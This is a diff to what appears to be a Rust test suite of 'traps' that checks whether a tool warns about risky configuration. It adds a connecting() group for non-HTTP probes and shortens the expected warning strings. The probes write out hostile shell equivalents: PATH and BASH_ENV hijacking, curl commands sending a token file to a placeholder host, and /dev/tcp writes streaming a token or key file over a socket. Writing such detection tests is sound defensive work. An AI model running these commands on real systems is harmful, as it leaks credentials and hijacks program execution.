@@ -49,7 +49,7 @@ fn needing(needs: &'static [&'static str], trap: Trap) -> Trap {
 }
 
 pub fn traps() -> Vec<Trap> {
-    [running(), running_content(), options(), sending(), waiting_and_showing()]
+    [running(), running_content(), options(), sending(), connecting(), waiting_and_showing()]
         .into_iter()
         .flatten()
         .collect()
@@ -64,21 +64,21 @@ fn running() -> Vec<Trap> {
             "command",
             r#"{ argv = ["./helper"], cwd = "@evil@" }"#,
             "cd @evil@ && ./helper",
-            "for probe s.p/p in evil",
+            "/evil",
         ),
         probe(
             "PATH",
             "command",
             r#"{ argv = ["env", "helper"], env = { PATH = "@evil@:/bin:/usr/bin" } }"#,
             "PATH=@evil@:/bin:/usr/bin env helper",
-            "with PATH=evil:/bin:/usr/bin",
+            "/evil:/bin:/usr/bin",
         ),
         probe(
             "a variable that names a program",
             "command",
             r#"{ argv = ["bash", "-c", "true"], env = { BASH_ENV = "@evil@/hook.sh" } }"#,
             "BASH_ENV=@evil@/hook.sh bash -c true",
-            "with BASH_ENV=evil/hook.sh",
+            "/evil/hook.sh",
         ),
         probe(
             "a command that reads a secret",
@@ -186,7 +186,7 @@ fn sending() -> Vec<Trap> {
             "http",
             r#"{ url = "@web@/", headers = { X-A = { secret = { file = "token" } } } }"#,
             "curl -s -H \"X-A: $(cat token)\" @web@/",
-            "file token → @web@",
+            "/token → @web@",
         ),
         probe(
             "a variable in a header",
@@ -207,21 +207,21 @@ fn sending() -> Vec<Trap> {
             "registry",
             r#"{ api = { url = "@web@" }, repository = "app", username = "u", password = { file = "token" }, tag = "v1" }"#,
             "curl -s -u \"u:$(cat token)\" @web@/v2/",
-            "file token → @web@ and the token server that it names",
+            "/token → @web@ and the token server that it names",
         ),
         probe(
             "a token for Vault",
             "vault",
             r#"{ api = { url = "@web@" }, path = "p", auth = { token = { file = "token" } } }"#,
             "curl -s -H \"X-Vault-Token: $(cat token)\" @web@/v1/secret/data/p",
-            "file token → @web@",
+            "/token → @web@",
         ),
         probe(
             "an event",
             "pipeline",
             r#"{ api = { url = "@web@" }, token = { file = "token" } }"#,
             "curl -s -H \"Authorization: Bearer $(cat token)\" -d '{}' @web@/",
-            "file token → @web@",
+            "/token → @web@",
         ),
         probe(
             "a test span",
@@ -230,12 +230,18 @@ fn sending() -> Vec<Trap> {
             "curl -s -d '{}' @web@/v1/traces",
             "@web@: a test span",
         ),
+    ]
+}
+
+/// The same, over a connection that is not HTTP's.
+fn connecting() -> Vec<Trap> {
+    vec![
         probe(
             "a password for Redis",
             "redis",
             r#"{ url = "redis://127.0.0.1:@silent@", password = { file = "token" } }"#,
             "exec 3<>/dev/tcp/127.0.0.1/@silent@ && { printf 'AUTH '; cat token; } >&3",
-            "file token → redis://127.0.0.1:@silent@ and the nodes of its cluster",
+            "/token → redis://127.0.0.1:@silent@ and the nodes of its cluster",
         ),
         probe(
             "a password for RabbitMQ",
@@ -249,7 +255,7 @@ fn sending() -> Vec<Trap> {
             "http",
             r#"{ url = "https://127.0.0.1:@silent@/", tls = { certificate = "token", key = "alice" } }"#,
             "exec 3<>/dev/tcp/127.0.0.1/@silent@ && cat alice >&3",
-            "file alice → https://127.0.0.1:@silent@",
+            "/alice → https://127.0.0.1:@silent@",
         ),
     ]
 }
